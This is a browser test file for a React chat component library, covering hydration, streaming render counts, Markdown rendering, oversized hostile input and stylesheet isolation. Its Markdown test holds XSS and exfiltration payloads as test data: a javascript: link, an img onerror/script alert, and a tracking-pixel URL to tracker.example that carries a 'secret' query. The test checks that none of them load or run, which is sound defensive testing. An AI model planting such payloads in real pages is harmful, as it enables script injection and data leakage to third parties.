import { countedWork, resetWork } from "./countRenders.js";
import { hydrateRoot } from "react-dom/client";
import { renderToString } from "react-dom/server";
import { afterEach, describe, expect, onTestFinished, test, vi } from "vitest";
import { page } from "vitest/browser";
import { render } from "vitest-browser-react";
import { Chat, Markdown, type UIMessage } from "../../src/index.js";
import { createMockClient } from "../../src/testing/index.js";
import { conversationOf } from "./longConversation.js";
import { button, finish, place, renderChat, text } from "./setUp.js";

afterEach(() => {
  vi.restoreAllMocks();
});

const history: UIMessage[] = [
  { id: "1", role: "user", parts: [{ type: "text", text: "Hi" }] },
  {
    id: "2",
    role: "assistant",
    parts: [{ type: "text", text: "Hello" }],
    metadata: { model: "a/b" },
  },
];

describe("on a server", () => {
  test("renders, and hydrates without a mismatch", async () => {
    const errors = vi.spyOn(console, "error");
    const onRecoverableError = vi.fn();
    const chat = place({ client: createMockClient(), defaultMessages: history });
    const host = document.createElement("div");
    host.innerHTML = renderToString(chat);
    expect(host.textContent).toContain("Hi");
    document.body.append(host);
    const root = hydrateRoot(host, chat, { onRecoverableError });
    onTestFinished(() => {
      root.unmount();
      host.remove();
    });
    // Plain text becomes Markdown once the page is alive.
    await expect.poll(() => host.querySelector("[data-pl-plain]")).toBeNull();
    expect(onRecoverableError).not.toHaveBeenCalled();
    expect(errors).not.toHaveBeenCalled();
  });
});

describe("an answer", () => {
  test("says who gave it, by the provider's own name", async () => {
    const metadata = { model: "x-ai/grok-4", provider: "openrouter" };
    await renderChat({ defaultMessages: [{ ...history[1]!, metadata }] });
    await expect.element(page.getByText("OpenRouter")).toBeInTheDocument();
  });

  test("has a dot where it is being written, which takes no room and goes with its end", async () => {
    const { ask, steps, screen } = await renderChat();
    const dotted = () =>
      [...screen.container.querySelectorAll("[data-pl-markdown] *")].filter(
        (element) => getComputedStyle(element, "::after").content !== "none",
      );
    await ask("Hi");
    await steps[0]!.push(text("# One\n\nTwo\n\n- three\n- four\n  - five"));
    await expect.element(page.getByText("five")).toBeInTheDocument();
    expect(dotted().map(({ textContent }) => textContent)).toEqual(["five"]);
    const height = () => screen.container.querySelector("[data-pl-markdown]")!.scrollHeight;
    await steps[0]!.push(text("\n\nSix"));
    await expect.element(page.getByText("Six")).toBeInTheDocument();
    expect(dotted().map(({ textContent }) => textContent)).toEqual(["Six"]);
    const before = height();
    await steps[0]!.push(finish);
    await expect.poll(() => dotted()).toEqual([]);
    expect(height()).toBe(before);
  });
});

describe("a delta", () => {
  test("renders neither the chat nor the other messages", async () => {
    const rendered = vi.fn();
    function Message({ messageId }: { messageId: string }) {
      rendered();
      return <p>{messageId}</p>;
    }
    const { ask, steps } = await renderChat({ components: { Message } });
    await ask("Hi");
    await steps[0]!.push(text("a"));
    const before = rendered.mock.calls.length;
    for (let i = 0; i < 20; i += 1) await steps[0]!.push(text("b"));
    expect(rendered).toHaveBeenCalledTimes(before);
  });

  /** Waits until nothing has rendered for a while: what a scrolling list has to do, it does when it stands still. */
  async function rest(): Promise<void> {
    await expect
      .poll(async () => {
        resetWork();
        for (let frame = 0; frame < 20; frame += 1) await new Promise(requestAnimationFrame);
        return countedWork().rendered;
      })
      .toBe(0);
  }

  test("runs the same components with 10 and with 2,000 messages", async () => {
    async function components(count: number): Promise<number[]> {
      const { steps, screen, ask } = await renderChat({ defaultMessages: conversationOf(count) });
      await ask("Hi");
      await steps[0]!.push(text("a"));
      await expect.poll(() => document.querySelector("[data-pl-plain]")).toBeNull();
      await rest();
      const counts: number[] = [];
      for (let delta = 0; delta < 5; delta += 1) {
        resetWork();
        await steps[0]!.push(text(" word"));
        await expect.element(page.getByText(`a${" word".repeat(delta + 1)}`)).toBeVisible();
        counts.push(countedWork().rendered);
      }
      await screen.unmount();
      return counts;
    }
    const few = await components(10);
    expect(Math.max(...few)).toBeLessThan(20);
    expect(Math.min(...few)).toBeGreaterThan(0);
    expect(await components(2000)).toEqual(few);
  });
});

describe("Markdown", () => {
  const risky = [
    "![pixel](https://tracker.example/p.png?q=secret)",
    "[x](javascript:alert(1))",
    "<img src=x onerror=alert(1)><script>alert(2)</script>",
    "[y](https://example.com)",
  ].join("\n\n");

  test("loads nothing and runs nothing a model wrote", async () => {
    const asked = vi.spyOn(window, "alert").mockImplementation(() => {});
    const screen = await render(<Markdown>{risky}</Markdown>);
    await expect
      .element(page.getByRole("button", { name: /Show image from tracker\.example/ }))
      .toBeVisible();
    expect(screen.container.querySelector("img, script")).toBeNull();
    expect(
      [...screen.container.querySelectorAll("a")].map((a) => a.getAttribute("href")),
    ).not.toContain("javascript:alert(1)");
    await expect
      .element(page.getByRole("link", { name: "y" }))
      .toHaveAttribute("rel", "noopener noreferrer nofollow");
    expect(asked).not.toHaveBeenCalled();
    await page.getByRole("button", { name: /Show image/ }).click();
    expect(screen.container.querySelector("img")!.getAttribute("referrerpolicy")).toBe(
      "no-referrer",
    );
    // The button that had the focus is gone.
    expect(document.activeElement).toBe(screen.container.querySelector("img"));
  });

  test("shows tables, lists and code", async () => {
    await render(<Markdown>{"| a |\n| - |\n| 1 |\n\n- one\n\n```js\nlet x\n```"}</Markdown>);
    await expect.element(page.getByRole("table")).toBeVisible();
    await expect.element(page.getByRole("listitem")).toHaveTextContent("one");
    await expect.element(page.getByText("let x")).toBeVisible();
  });
});

describe("hostile text", () => {
  test("of a megabyte is sent and shown as it is", async () => {
    // More than any known model can read: only one of which nothing is known is asked.
    const { client } = await renderChat({ model: "someone/model" });
    const huge = "<b>&amp;</b>\u202e".repeat(80_000);
    const field = document.querySelector<HTMLTextAreaElement>("[data-pl-input]")!;
    field.value = huge;
    field.dispatchEvent(new Event("input", { bubbles: true }));
    await expect.element(button("Send")).not.toHaveAttribute("aria-disabled");
    document.querySelector<HTMLFormElement>("[data-pl-composer]")!.requestSubmit();
    await expect.poll(() => client.requests.length).toBe(1);
    expect(client.requests[0]!.messages[0]!.parts).toEqual([{ type: "text", text: huge }]);
    await expect.poll(() => document.querySelector("[data-pl-bubble]")?.textContent).toBe(huge);
    expect(document.querySelector("[data-pl-bubble] b")).toBeNull();
  });
});

test("a stylesheet of the host wins, and its old button reset does not", async () => {
  const host = document.createElement("style");
  host.textContent =
    "button { background: red; border: 9px solid; padding: 40px } .mine { background: rgb(1, 2, 3) }";
  document.head.prepend(host);
  await render(<Chat client={createMockClient()} model="m" className="mine" />);
  const attach = page.getByRole("button", { name: "Attach files" }).element();
  expect(getComputedStyle(attach).padding).toBe("0px");
  expect(getComputedStyle(attach).borderTopWidth).toBe("0px");
  expect(getComputedStyle(document.querySelector(".mine")!).backgroundColor).toBe("rgb(1, 2, 3)");
  host.remove();
});
